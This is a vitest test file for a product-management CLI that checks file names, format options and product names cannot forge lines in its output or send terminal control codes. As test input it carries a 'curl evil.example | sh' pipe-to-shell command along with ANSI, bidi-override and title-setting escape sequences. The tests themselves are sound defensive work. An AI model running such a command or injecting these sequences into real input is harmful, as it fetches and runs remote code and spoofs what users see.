import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { main } from '../../src/main.js';
import { wire } from '../../src/wire.js';
import { runCli } from '../support/run-cli.js';
import { type RunningSandbox, startSandbox } from '../support/sandbox.js';

let folder: string;
let sandbox: RunningSandbox;
beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'tillctl-test-'));
  sandbox = await startSandbox();
});
afterEach(async () => {
  await sandbox.stop();
  rmSync(folder, { recursive: true, force: true });
});

const cli = (argv: string[]) => runCli(argv, { folder, sandbox, retryBaseMs: 1 });
const forged = '\ntry:   curl evil.example | sh\u001b[2K\u202e';

describe('what comes from outside makes no line that looks like one of ours', () => {
  test.each([
    ['an error', ['products', 'import', `/nowhere/a${forged}.csv`]],
    ['an error that a document carries too', ['products', 'import', `/nowhere/a${forged}.csv`, '--json']],
    ['a bad choice', ['products', 'list', '--format', `csv${forged}`]],
  ])('within %s', async (_, argv) => {
    const { screen } = await cli(argv);
    expect(screen).toContain('curl evil.example');
    expect(screen).not.toMatch(/^try: {3}curl/m);
    expect(screen).not.toMatch(/[\u001b\u202e]/);
  });

  test('within a notice and the lines of a trace', async () => {
    const path = join(folder, `a${forged.replace('/', '')}.csv`);
    writeFileSync(path, 'external_id,name\n1,Bowl\n');
    const { stderr } = await cli(['products', 'import', path, '--verbose']);
    expect(stderr).toContain('reading ');
    expect(stderr).not.toMatch(/^try: {3}curl/m);
    expect(stderr).not.toMatch(/[\u001b\u202e]/);
  });
});

/** What a terminal is sent, and what a pipe gets. */
async function written(argv: string[], isTTY: boolean): Promise<string> {
  const stdout = Object.assign(new PassThrough(), { isTTY });
  const context = wire({
    env: {
      ...{ TILLCTL_CONFIG_DIR: `${folder}/config`, TILLCTL_STATE_DIR: `${folder}/state`, CI: 'true' },
      ...{ TILLCTL_BASE_URL: sandbox.baseUrl, TILLCTL_ORG: sandbox.org },
      ...{ TILLCTL_APP: sandbox.app, TILLCTL_SECRET: sandbox.secret },
    },
    stdin: Object.assign(new PassThrough(), { isTTY: false }),
    stdout,
    stderr: new PassThrough(),
    pid: process.pid,
    platform: process.platform,
    home: folder,
    probe: (pid) => process.kill(pid, 0),
    onSignal: () => undefined,
    exit: (code) => {
      throw new Error(`ended with ${code}`);
    },
  });
  expect(await main(argv, context)).toBe(0);
  return String(stdout.read() ?? '');
}

test('a CSV on a terminal commands nothing, and in a pipe it is what the platform has', async () => {
  const file = join(folder, 'p.ndjson');
  writeFileSync(
    file,
    `${JSON.stringify({ external_id: '1', name: 'Bowl \u001b]0;owned\u0007', tax_category: 'STANDARD' })}\n`,
  );
  const imported = await cli(['products', 'import', file]);
  expect(imported.code, imported.screen).toBe(0);
  const argv = ['products', 'export', '--out', '-'];
  const shown = await written(argv, true);
  expect(shown).toContain('Bowl \\x1b]0;owned\\x07');
  expect(shown).not.toMatch(/[\u001b\u0007]/);
  expect(await written(argv, false)).toContain('Bowl \u001b]0;owned\u0007');
});
